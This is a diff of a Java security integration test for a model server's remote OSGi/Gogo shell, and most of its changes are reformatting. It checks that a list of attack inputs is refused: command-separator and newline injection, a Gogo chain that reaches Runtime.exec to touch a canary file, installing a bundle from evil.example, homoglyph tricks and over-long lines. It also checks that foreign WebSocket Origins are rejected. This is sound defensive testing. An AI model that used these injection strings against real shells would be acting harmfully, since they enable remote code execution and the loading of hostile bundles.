@@ -40,28 +40,59 @@ class ShellSecurityIT {
         try (ServerProcess server = ServerProcess.start(root, store())) {
             Path canary = root.resolve("pwned");
             // Gogo reaches Runtime.exec from the framework's bundle: the full shell runs this.
-            String exec = "((($.context bundle 0) loadClass java.lang.Runtime) getRuntime) exec \"touch " + canary
-                    + "\"";
+            String exec =
+                    "((($.context bundle 0) loadClass java.lang.Runtime) getRuntime) exec \"touch " + canary + "\"";
             try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")))) {
                 assertTrue(ran(shell, "serval:list").startsWith("digits "));
                 assertTrue(ran(shell, "lb -s").contains("|dev.serval.shell ("));
                 assertTrue(ran(shell, "headers").contains("Bundle-SymbolicName = org.apache.felix.framework"));
                 assertTrue(ran(shell, "help").contains("serval:scale"));
 
-                for (String attack : List.of(exec, "lb;" + exec, "lb ; " + exec, "serval:list | " + exec,
-                        "lb\n" + exec, "lb\r\n" + exec, "lb && " + exec, "$.context", "echo $.context",
-                        "lb ($.context bundle 0)", "lb {" + exec + "}", "lb [" + exec + "]", "\"lb\"", "'lb'",
-                        "lb \"$(touch " + canary + ")\"", "lb \\", "lb > " + canary, "x = lb", "lb ~", "lb *",
-                        "exit", "install https://evil.example/x.jar", "update 0 file:///tmp/x.jar", "stop 0",
-                        "uninstall 1", "felix:install file:///tmp/x.jar", "gogo:new java.lang.ProcessBuilder",
-                        "LB", "\uff4c\uff42", "serv\u0430l:list", "serval\uff1alist", "lb\u00a0-s", "lb\u2028stop 0",
+                for (String attack : List.of(
+                        exec,
+                        "lb;" + exec,
+                        "lb ; " + exec,
+                        "serval:list | " + exec,
+                        "lb\n" + exec,
+                        "lb\r\n" + exec,
+                        "lb && " + exec,
+                        "$.context",
+                        "echo $.context",
+                        "lb ($.context bundle 0)",
+                        "lb {" + exec + "}",
+                        "lb [" + exec + "]",
+                        "\"lb\"",
+                        "'lb'",
+                        "lb \"$(touch " + canary + ")\"",
+                        "lb \\",
+                        "lb > " + canary,
+                        "x = lb",
+                        "lb ~",
+                        "lb *",
+                        "exit",
+                        "install https://evil.example/x.jar",
+                        "update 0 file:///tmp/x.jar",
+                        "stop 0",
+                        "uninstall 1",
+                        "felix:install file:///tmp/x.jar",
+                        "gogo:new java.lang.ProcessBuilder",
+                        "LB",
+                        "\uff4c\uff42",
+                        "serv\u0430l:list",
+                        "serval\uff1alist",
+                        "lb\u00a0-s",
+                        "lb\u2028stop 0",
                         "lb " + "x".repeat(60_000))) {
                     CommandShell.Outcome outcome = shell.execute(attack);
                     assertTrue(outcome.failed(), attack + " → " + outcome);
-                    assertTrue(outcome.output().matches("(?s)(Character .* is refused: |The remote shell runs only |"
-                            + "The line is longer than ).*\n"), outcome.output());
+                    assertTrue(
+                            outcome.output()
+                                    .matches("(?s)(Character .* is refused: |The remote shell runs only |"
+                                            + "The line is longer than ).*\n"),
+                            outcome.output());
                 }
-                assertEquals("Model API is disabled: start with --enable-model-api or set enable_model_api=true\n",
+                assertEquals(
+                        "Model API is disabled: start with --enable-model-api or set enable_model_api=true\n",
                         refused(shell, "serval:register digits.mar"));
                 refused(shell, "serval:unregister digits");
                 assertTrue(ran(shell, "serval:list").startsWith("digits "), "the session goes on");
@@ -71,7 +102,8 @@ class ShellSecurityIT {
             // Beyond Jetty's WebSocket message limit (64 KiB) the server closes the connection unread
             // (so it is not closed here again).
             RemoteShell huge = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")));
-            assertTimeoutPreemptively(Duration.ofSeconds(20),
+            assertTimeoutPreemptively(
+                    Duration.ofSeconds(20),
                     () -> assertThrows(IOException.class, () -> huge.execute("lb " + "x".repeat(1 << 20))));
             try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")))) {
                 assertTrue(ran(shell, "serval:list").startsWith("digits "));
@@ -83,16 +115,24 @@ class ShellSecurityIT {
     void anUpgradeFromAnotherSitesPageIsRefused() throws Exception {
         try (ServerProcess server = ServerProcess.start(root, store())) {
             int port = server.managementPort;
-            for (String origin : List.of("https://evil.example", "http://evil.example:" + port, "null",
-                    "http://127.0.0.1:" + (port + 1), "https://127.0.0.1:" + port,
+            for (String origin : List.of(
+                    "https://evil.example",
+                    "http://evil.example:" + port,
+                    "null",
+                    "http://127.0.0.1:" + (port + 1),
+                    "https://127.0.0.1:" + port,
                     "http://localhost.evil.example:" + port)) {
                 RawHttp.Response foreign = upgrade(server, "127.0.0.1:" + port, "Origin: " + origin);
                 assertError(foreign, 403, "ForbiddenException");
                 assertTrue(foreign.body().contains(origin), foreign.body());
             }
-            for (String origin : List.of("http://127.0.0.1:" + port, "http://localhost:" + port,
-                    "http://[::1]:" + port)) {
-                assertEquals(101, upgrade(server, "127.0.0.1:" + port, "Origin: " + origin).status(), origin);
+            for (String origin :
+                    List.of("http://127.0.0.1:" + port, "http://localhost:" + port, "http://[::1]:" + port)) {
+                assertEquals(
+                        101,
+                        upgrade(server, "127.0.0.1:" + port, "Origin: " + origin)
+                                .status(),
+                        origin);
             }
             assertEquals(101, upgrade(server, "127.0.0.1:" + port).status(), "no Origin: not a browser");
         }
@@ -104,9 +144,14 @@ class ShellSecurityIT {
             assertError(upgrade(server, "127.0.0.1:" + server.managementPort), 403, "ForbiddenException");
             assertThrows(IOException.class, () -> RemoteShell.connect(shellUri(server), Optional.empty()));
 
-            List<String> command = new ArrayList<>(List.of(ServerProcess.DIST.resolve("bin/serval").toString(),
-                    "shell", "--config", root.resolve("config.properties").toString(), "serval:list"));
-            Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
+            List<String> command = new ArrayList<>(List.of(
+                    ServerProcess.DIST.resolve("bin/serval").toString(),
+                    "shell",
+                    "--config",
+                    root.resolve("config.properties").toString(),
+                    "serval:list"));
+            Process process =
+                    new ProcessBuilder(command).redirectErrorStream(true).start();
             String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
             assertTrue(process.waitFor(30, TimeUnit.SECONDS), output);
             assertEquals(1, process.exitValue(), output);
@@ -118,25 +163,45 @@ class ShellSecurityIT {
     void enabledWithoutKeysItFollowsTheModelApiAndAllowedHosts() throws Exception {
         Path store = store();
         Archives.digits(store.resolve("digits2.mar"), "digits2", "1.0", "convnet_digits.pt", "image_classifier");
-        try (ServerProcess server = ServerProcess.start(root, store, "load_models=digits.mar",
-                "disable_token_authorization=true", "enable_remote_shell=true", "enable_model_api=true",
+        try (ServerProcess server = ServerProcess.start(
+                root,
+                store,
+                "load_models=digits.mar",
+                "disable_token_authorization=true",
+                "enable_remote_shell=true",
+                "enable_model_api=true",
                 "allowed_hosts=serval.test")) {
             try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.empty())) {
-                assertEquals("Model \"digits2\" Version: 1.0 registered with 1 initial workers\n",
+                assertEquals(
+                        "Model \"digits2\" Version: 1.0 registered with 1 initial workers\n",
                         ran(shell, "serval:register digits2.mar"));
                 assertEquals("Model \"digits2\" version 1.0 unregistered\n", ran(shell, "serval:unregister digits2"));
                 refused(shell, "$.context");
             }
             for (int port : List.of(server.inferencePort, server.managementPort, server.metricsPort)) {
-                for (String host : List.of("127.0.0.1:" + port, "localhost:" + port, "[::1]:" + port, "LOCALHOST",
+                for (String host : List.of(
+                        "127.0.0.1:" + port,
+                        "localhost:" + port,
+                        "[::1]:" + port,
+                        "LOCALHOST",
                         "serval.test:" + port)) {
-                    assertEquals(404, RawHttp.send(port, "GET /nosuch", host, List.of()).status(), host);
+                    assertEquals(
+                            404,
+                            RawHttp.send(port, "GET /nosuch", host, List.of()).status(),
+                            host);
                 }
-                assertError(RawHttp.send(port, "GET /nosuch", "other.test:" + port, List.of()), 421,
+                assertError(
+                        RawHttp.send(port, "GET /nosuch", "other.test:" + port, List.of()),
+                        421,
                         "MisdirectedRequestException");
             }
-            assertEquals(101, upgrade(server, "serval.test:" + server.managementPort,
-                    "Origin: http://serval.test:" + server.managementPort).status());
+            assertEquals(
+                    101,
+                    upgrade(
+                                    server,
+                                    "serval.test:" + server.managementPort,
+                                    "Origin: http://serval.test:" + server.managementPort)
+                            .status());
         }
     }
 
@@ -146,8 +211,9 @@ class ShellSecurityIT {
             try (RemoteShell shell = RemoteShell.connect(shellUri(server), Optional.of(server.key("management")))) {
                 assertEquals("org.apache.felix.framework\n", ran(shell, "($.context bundle 0) symbolicName"));
             }
-            assertTrue(server.log().contains(
-                    "enable_remote_shell_code_execution=true lets whoever reaches it run code"), "warned in the log");
+            assertTrue(
+                    server.log().contains("enable_remote_shell_code_execution=true lets whoever reaches it run code"),
+                    "warned in the log");
         }
     }
 
